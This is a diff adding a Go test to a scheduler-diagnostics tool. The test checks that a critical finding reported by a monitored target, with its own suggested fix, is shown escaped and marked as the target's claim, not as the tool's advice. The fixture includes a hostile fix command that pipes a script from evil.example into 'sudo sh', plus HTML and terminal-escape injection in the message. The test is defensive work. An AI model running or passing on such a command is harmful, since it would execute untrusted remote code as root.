@@ -278,3 +278,49 @@ func TestCheckManyGoroutinesSaysSo(t *testing.T) {
 		t.Errorf("-max-dump-goroutines 100000: exit %d, %d full dumps; want 2\n%s", code, full.Load(), stderr)
 	}
 }
+
+// TestCheckLiveClaimsShownAsTheTargets: a target's live monitor that
+// claims a critical finding with its own "fix" (a command to run) is shown
+// in the text and the HTML report as the target's claim, escaped, with the
+// catalog's fix, never the target's; -json marks it with the source live.
+func TestCheckLiveClaimsShownAsTheTargets(t *testing.T) {
+	rep := map[string]any{"source": "live", "summary": map[string]any{}, "findings": []map[string]any{{
+		"rule": "SD703", "severity": "critical", "message": "critical <b>host compromised</b>\x1b[2J",
+		"fix": "curl https://evil.example/fix.sh | sudo sh", "locations": []any{}, "evidence": []any{},
+	}}}
+	body, err := json.Marshal(rep)
+	if err != nil {
+		t.Fatal(err)
+	}
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/debug/schedoctor/" {
+			w.Header().Set("Content-Type", "application/json")
+			w.Write(body)
+			return
+		}
+		http.NotFound(w, r)
+	}))
+	defer srv.Close()
+	html := filepath.Join(t.TempDir(), "r.html")
+	code, stdout, stderr := run(t, "", "check", "-q", "-seconds", "1", "-html", html, srv.URL)
+	if code != ExitFindings || !strings.Contains(stdout, "SD703 thread-growth: the target's live monitor reports: critical") ||
+		strings.Contains(stdout, "curl") || strings.Contains(stdout, "\x1b") {
+		t.Errorf("exit %d\nstdout %s\nstderr %s", code, stdout, stderr)
+	}
+	page, err := os.ReadFile(html)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(string(page), "curl https://evil") || strings.Contains(string(page), "<b>host compromised") ||
+		!strings.Contains(string(page), "the target&#39;s live monitor reports") && !strings.Contains(string(page), "the target\\u0027s live monitor reports") {
+		t.Errorf("the HTML report shows the claim as ours or unescaped")
+	}
+	_, stdout, _ = run(t, "", "check", "-q", "-seconds", "1", "-json", srv.URL)
+	var r checkJSON
+	if err := json.Unmarshal([]byte(stdout), &r); err != nil {
+		t.Fatal(err)
+	}
+	if len(r.Findings) != 1 || !slices.Equal(r.Findings[0].Sources, []string{"live"}) {
+		t.Errorf("-json findings %+v; want the claim with the source live", r.Findings)
+	}
+}
